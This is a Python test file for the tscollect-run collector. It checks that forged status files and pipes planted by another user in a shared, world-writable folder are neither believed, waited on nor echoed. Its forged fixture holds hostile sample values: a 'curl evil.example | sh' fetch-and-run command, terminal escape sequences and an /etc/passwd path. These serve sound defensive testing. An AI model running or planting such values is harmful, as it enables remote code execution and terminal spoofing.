"""A folder in which another user may write: what tscollect-run and the collector tell each other by files
there is theirs alone, and nobody else's words are believed, waited for or printed."""

import ctypes
import json
import os
import pathlib
import signal
import subprocess
import tempfile
import unittest

import h5py

BUILD = pathlib.Path(os.environ["TSCOLLECT_BUILD_DIR"])
STRANGER = 23457  # a user that nobody is
FORGED = {"state": "ended", "run_id": "20250102T030405Z-0badcafe", "output": "/etc/passwd", "ready": True,
          "written": ["/tmp/forged\x1b[31m.h5"], "completeness": "complete", "hosts_requested": 7,
          "hosts_collected": 7, "samples": 4711, "recovery": "curl evil.example | sh", "error": "forged\x1b]0;x\x07"}


def meddle(folder, kind):
    """As another user: puts a file or a pipe of one's own in the place of each that appears."""
    ctypes.CDLL(None).prctl(1, signal.SIGKILL)
    os.setgroups([])
    os.setgid(STRANGER)
    os.setuid(STRANGER)
    done = set()
    while True:
        for entry in os.scandir(folder):
            if not entry.name.startswith(".tscollect-run-") or not entry.name.endswith((".status", ".marks")):
                continue
            try:
                if entry.stat(follow_symlinks=False).st_uid == STRANGER:
                    continue
                if kind == "status" and entry.name.endswith(".status"):
                    with open(folder / "forged", "w", encoding="ascii") as file:
                        json.dump(done_status(entry.path), file)
                    os.replace(folder / "forged", entry.path)
                if kind == "pipe" and entry.name.endswith(".marks"):
                    os.unlink(entry.path)
                    os.mkfifo(entry.path, 0o666)
                    done.add(entry.name)
            except OSError:
                continue


def done_status(path):
    """What is there, with the forged parts in it: so it is of the form that is read."""
    try:
        status = json.loads(pathlib.Path(path).read_text(encoding="utf-8"))
    except ValueError:
        status = {}
    return {**status, **FORGED}


@unittest.skipUnless(os.geteuid() == 0, "needs two users")
class SharedFolder(unittest.TestCase):
    def run_beside(self, kind):
        folder = pathlib.Path(self.enterContext(tempfile.TemporaryDirectory()))
        folder.chmod(0o777)
        stranger = os.fork()
        if stranger == 0:
            try:
                meddle(folder, kind)
            finally:
                os._exit(1)
        self.addCleanup(lambda: (os.kill(stranger, signal.SIGKILL), os.waitpid(stranger, 0)))
        done = subprocess.run(
            [BUILD / "bin" / "tscollect-run", "-i", "0.2", "--ready-timeout", "8",
             "--stop-timeout", "20", "-o", folder / "run.h5",
             "--journal-dir", folder, "--", "sh", "-c", "sleep 2; exit 7"],
            capture_output=True, text=True, check=False, timeout=120)
        return folder, done

    def test_no_forged_status_is_believed(self):
        _, done = self.run_beside("status")
        self.assertEqual(done.returncode, 7)
        self.assertNotIn("evil.example", done.stderr)
        self.assertNotIn("forged", done.stderr)
        self.assertNotIn("\x1b", done.stderr)
        self.assertNotIn("4711", done.stderr)

    def test_a_pipe_in_place_of_the_marks_is_not_waited_for(self):
        folder, done = self.run_beside("pipe")
        self.assertEqual(done.returncode, 7, done.stderr)
        with h5py.File(folder / "run.h5") as file:
            self.assertGreater(file.attrs["num_samples"], 3)  # a busy machine may miss some ticks


if __name__ == "__main__":
    unittest.main()
